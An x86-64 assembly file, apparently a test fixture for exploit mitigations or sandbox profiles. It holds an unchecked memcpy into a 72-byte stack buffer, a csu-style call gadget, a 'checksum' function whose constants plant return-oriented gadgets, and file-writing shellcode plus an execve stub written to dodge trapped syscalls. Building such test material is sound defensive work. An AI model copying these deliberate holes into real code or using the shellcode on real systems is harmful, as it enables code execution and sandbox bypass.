# Two functions of the victim, as gcc -O2 makes them of the C above each, written down so that every build has the same frames; and what
# an attacker brings along, which lies in writable data.
        .text

# char *vulnerable(const void *record, size_t size) { char buffer[72]; return memcpy(buffer, record, size); }
#
# `size` is never compared with 72. The answer is where the buffer was, which strcpy() and its like tell too.
#
#   buffer, 72 bytes | rbx | r12 | r13 | r14 | r15 | rbp | return address
        .globl  vulnerable
        .type   vulnerable, @function
        .p2align 4
vulnerable:
        .cfi_startproc
        push    %rbp
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %rbp, 0
        push    %r15
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r15, 0
        push    %r14
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r14, 0
        push    %r13
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r13, 0
        push    %r12
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r12, 0
        push    %rbx
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %rbx, 0
        sub     $72, %rsp
        .cfi_adjust_cfa_offset 72
        mov     %rsi, %rcx
        mov     %rdi, %rsi
        mov     %rsp, %rdi
        mov     %rsp, %rax
        rep movsb
        add     $72, %rsp
        .cfi_adjust_cfa_offset -72
        pop     %rbx
        .cfi_adjust_cfa_offset -8
        .cfi_restore %rbx
        pop     %r12
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r12
        pop     %r13
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r13
        pop     %r14
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r14
        pop     %r15
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r15
        pop     %rbp
        .cfi_adjust_cfa_offset -8
        .cfi_restore %rbp
        ret
        .cfi_endproc
        .size   vulnerable, . - vulnerable

# void each(void (*const *table)(word, word, word), size_t count, word first, word second, word third) {
#   for (size_t n = 0; n < count; n++) table[n](first, second, third);
# }
#
# A loop like it, __libc_csu_init, was part of every program until glibc 2.34.
        .globl  each, after_each_call
        .type   each, @function
        .p2align 4
each:
        .cfi_startproc
        test    %rsi, %rsi
        je      2f
        push    %r14
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r14, 0
        mov     %rdx, %r14
        push    %r13
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r13, 0
        mov     %rcx, %r13
        push    %r12
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %r12, 0
        mov     %r8, %r12
        push    %rbp
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %rbp, 0
        lea     (%rdi,%rsi,8), %rbp
        push    %rbx
        .cfi_adjust_cfa_offset 8
        .cfi_rel_offset %rbx, 0
        mov     %rdi, %rbx
1:      mov     %r12, %rdx
        mov     %r13, %rsi
        mov     %r14, %rdi
        call    *(%rbx)
after_each_call:
        add     $8, %rbx
        cmp     %rbx, %rbp
        jne     1b
        pop     %rbx
        .cfi_adjust_cfa_offset -8
        .cfi_restore %rbx
        pop     %rbp
        .cfi_adjust_cfa_offset -8
        .cfi_restore %rbp
        pop     %r12
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r12
        pop     %r13
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r13
        pop     %r14
        .cfi_adjust_cfa_offset -8
        .cfi_restore %r14
2:      ret
        .cfi_endproc
        .size   each, . - each

# unsigned checksum(unsigned value) { return ((value * 0x00c35a00 ^ 0xe0ff5b00) + 0x00c35800) ^ 0x00c35900; }
#
# A program of ordinary size has all kinds of bytes among its constants. This one is small, so it has one function for them: pops of rdx,
# rax and rcx before a ret, and pop %rbx; jmp *%rax begin inside its instructions.
        .globl  checksum
        .type   checksum, @function
        .p2align 4
checksum:
        .cfi_startproc
        imul    $0x00c35a00, %edi, %eax
        xor     $0xe0ff5b00, %eax
        add     $0x00c35800, %eax
        xor     $0x00c35900, %eax
        ret
        .cfi_endproc
        .size   checksum, . - checksum

# What the attacker writes into memory. It makes no call that the shipped profiles trap.
        .data
        .globl  shellcode, shellcode_end, shellcode_path, shellcode_text, shellcode_length, execve_code, execve_code_end
        .p2align 12
shellcode:
        lea     shellcode_path(%rip), %rdi
        mov     $01101, %esi                    # O_WRONLY | O_CREAT | O_TRUNC
        mov     $0644, %edx
        mov     $2, %eax                        # open
        syscall
        mov     %eax, %edi
        lea     shellcode_text(%rip), %rsi
        .byte   0xba                            # mov length, %edx
shellcode_length:
        .long   0
        mov     $1, %eax                        # write
        syscall
        xor     %edi, %edi
        mov     $231, %eax                      # exit_group
        syscall
        hlt
shellcode_path:
        .fill   256
shellcode_text:
        .fill   64
shellcode_end:

execve_code:
        mov     $59, %eax
        syscall
        ret
execve_code_end:
        .p2align 12

        .section .note.GNU-stack, "", @progbits
